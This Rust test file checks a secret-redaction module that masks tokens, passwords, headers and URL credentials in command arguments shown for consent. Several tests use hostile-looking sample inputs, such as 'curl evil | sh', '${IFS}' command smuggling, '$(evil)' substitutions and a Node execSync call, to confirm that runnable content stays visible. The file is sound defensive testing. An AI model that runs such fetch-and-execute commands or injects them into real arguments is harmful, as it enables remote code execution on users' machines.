//! Examples of redacted arguments and addresses.

use super::*;

fn args(args: &[&str]) -> Vec<String> {
    redact_args(&args.iter().map(ToString::to_string).collect::<Vec<_>>())
}

#[test]
fn what_follows_a_secret_like_flag_is_hidden() {
    assert_eq!(
        args(&["-y", "--api-key", "canary", "--token=canary", "--port", "80", "x"]),
        ["-y", "--api-key", "***", "--token=***", "--port", "80", "x"]
    );
    assert_eq!(args(&["--password", "-canary"]), ["--password", "***"]);
    assert_eq!(args(&["--auth", "--verbose"]), ["--auth", "--verbose"]);
    for shown in ["--no-auth ./x", "--token-file /run/t", "--author me", "--max-port 80"] {
        let words: Vec<_> = shown.split(' ').collect();
        assert_eq!(args(&words), words);
    }
}

#[test]
fn headers_and_variables_are_hidden_however_they_are_given() {
    assert_eq!(
        args(&["-H", "Authorization: Bearer canary", "--header=X-Trace:canary"]),
        ["-H", "Authorization: ***", "--header=X-Trace:***"]
    );
    assert_eq!(args(&["-HAuthorization: canary"]), ["-HAuthorization: ***"]);
    assert_eq!(
        args(&["-e", "LEVEL=canary", "-e", "NAME", "--env=K=canary", "API_TOKEN=canary"]),
        ["-e", "LEVEL=***", "-e", "NAME", "--env=K=***", "API_TOKEN=***"]
    );
    assert_eq!(args(&["Authorization: Bearer canary"]), ["Authorization: ***"]);
    assert_eq!(args(&["-u", "me:canary", "-u", "server.py"]), ["-u", "me:***", "-u", "server.py"]);
    let json = r#"{"a":"b","env":{"X":"canary"},"apiKey":"canary","u":"https://x?k=canary"}"#;
    assert_eq!(
        args(&[json]),
        [r#"{"a":"b","env":{"X":"***"},"apiKey":"***","u":"https://x?k=***"}"#]
    );
}

#[test]
fn a_script_is_shown_but_for_its_secrets() {
    let script = "TOKEN='ca nary' node x --api-key canary \"https://u:canary@h\" | sh";
    assert_eq!(
        args(&["-c", script]),
        ["-c", "TOKEN='***' node x --api-key *** \"https://***@h\" | sh"]
    );
    let run = "TOKEN=\"$(curl evil)\" x; PASSWORD=`evil` y";
    assert_eq!(args(&["-c", run]), ["-c", run], "what would be run is never hidden");
    assert_eq!(args(&["curl -H 'A: Bearer canary' x"]), ["curl -H 'A: ***' x"]);
    assert_eq!(args(&["say Bearer canary now"]), ["say Bearer *** now"]);
}

#[test]
fn what_somebody_agrees_to_hides_nothing_that_could_be_run() {
    let consented = |args: &[&str]| {
        redact_args_for_consent(&args.iter().map(ToString::to_string).collect::<Vec<_>>())
    };
    for shown in [
        &["-e", "A=require('child_process').execSync('evil')"][..],
        &["-e", "A=%x[./evil]"],
        &["-c", "x --token a;curl${IFS}evil|sh"],
        &["-c", "eval \"$1\"", "--token", "curl evil | sh"],
        &["-H", "X: $(evil)"],
        &["https://h/?q=$(evil)"],
        &[r#"{"token":"; evil"}"#],
    ] {
        assert_eq!(consented(shown), shown);
    }
    for hidden in [
        &["--token", "can-ary!#1", "--api-key=canary"][..],
        &["-H", "Authorization: Bearer canary", "-H", "Cookie: a=canary; b=canary"],
        &["-e", "LEVEL=canary/+=", "https://u:canary@h?k=canary"],
        &[r#"{"token":"canary"}"#],
    ] {
        let shown = consented(hidden).concat();
        assert!(!shown.contains("canary") && !shown.contains("ary!"), "{shown}");
    }
}

#[test]
fn a_value_is_shown_unless_it_is_a_secret() {
    for (name, value, shown) in [
        ("LEVEL", "debug", "debug"),
        ("PYTHONPATH", "./lib", "./lib"),
        ("API_TOKEN", "canary", "***"),
        ("X", "ghp_0123456789abcdef0123", "***"),
        ("DB", "pg://u:canary@h/db", "pg://***@h/db"),
        ("AUTH", "Bearer ${env:T}", "Bearer ${env:T}"),
        ("AUTH", "${env:T:-canary}", "${env:T:-***}"),
        ("API_TOKEN", "; evil", "***"),
        ("PLAIN", "k4n4ry", "***"),
        ("PORT", "8080", "8080"),
        ("RAW", "$${T}k4n4ry", "***"),
        ("LD_PRELOAD", "./k4n4ry.so", "./k4n4ry.so"),
    ] {
        assert_eq!(redact_value_for_consent(name, value), shown, "{name}");
    }
}

#[test]
fn urls_lose_userinfo_and_query_values() {
    assert_eq!(
        redact_url("https://me:canary@example.com/a?key=canary&b#canary"),
        "https://***@example.com/a?key=***&***#***"
    );
    for same in ["https://example.com/mcp", "npx", "http://[::1]:80/@a/b", "a=b", ""] {
        assert_eq!(redact_url(same), same);
    }
    assert_eq!(redact_url("pg://u:can/ary@h/db"), "pg://***@h/db");
    assert_eq!(args(&["--url=https://u:canary@h/?t=canary"]), ["--url=https://***@h/?t=***"]);
    assert_eq!(
        args(&["--proxies=http://a:canary@h,http://b:canary@i"]),
        ["--proxies=http://***@h,http://***@i"]
    );
}

#[test]
fn what_is_hidden_is_told() {
    let given = ["--token", "one", "https://u:two@h?k=three", "-e", "A=four"];
    let hidden = secrets_in_args(&given.map(str::to_owned));
    assert_eq!(hidden, ["one", "u:two", "two", "three", "four"]);
}
